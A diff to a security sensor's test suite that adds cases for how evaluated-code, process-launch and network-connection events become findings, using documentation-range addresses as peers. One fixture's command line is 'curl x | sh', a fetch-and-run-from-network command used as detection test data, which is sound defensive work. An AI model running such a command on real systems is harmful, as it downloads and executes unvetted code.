@@ -54,6 +54,21 @@ describe('evaluationsOfSensor', () => {
     ['critical in a request', { severity: 'critical', request }, 1],
     ['critical outside of one', { severity: 'critical', request: null }, 0],
     ['high in a request', { severity: 'high', request }, 0],
+    [
+      'a launch whose command tells enough',
+      { kind: 'spawn', provenance: 'eval', argv: ['sh', '-c', 'curl x | sh'], severity: 'critical', request },
+      0,
+    ],
+    [
+      'a launch whose command tells nothing',
+      { kind: 'spawn', provenance: 'eval', argv: ['/srv/x'], severity: 'critical', request },
+      1,
+    ],
+    [
+      'a connection',
+      { kind: 'connect', provenance: 'orphan', peer: '198.51.100.7:3333', severity: 'critical', request },
+      1,
+    ],
   ])('%s', (_, change, expected) => {
     expect(evaluationsOfSensor(lines({ kind: 'codegen', api: 'Function', key: 'k', ...change })).length).toBe(expected);
   });
@@ -103,4 +118,27 @@ describe('falco and tetragon', () => {
 
 it('commandLine quotes what needs it', () => {
   expect(commandLine(['a', "it's", ''])).toBe("a 'it'\\''s' ''");
+});
+
+describe('what is known of evaluated code', () => {
+  it('tells the request, the place and the peer', () => {
+    const site = '/app/.next/server/chunks/x.js:1:6604';
+    const [code] = evaluationsOfSensor(
+      lines({ kind: 'codegen', api: 'Function', key: 'k', provenance: 'app', site, severity: 'critical', request }),
+    );
+    expect(code?.deed).toEqual({ kind: 'codegen', request: 'POST /', site, provenance: 'app', peer: null });
+    const [talk] = evaluationsOfSensor(
+      lines({
+        kind: 'connect',
+        key: 'k',
+        provenance: 'orphan',
+        site: '',
+        peer: '[2001:db8::1]:443',
+        severity: 'critical',
+        request,
+      }),
+    );
+    expect(talk?.deed).toMatchObject({ kind: 'connect', site: null, peer: '[2001:db8::1]:443' });
+    expect(talk?.frame).toContain('an unknown place');
+  });
 });
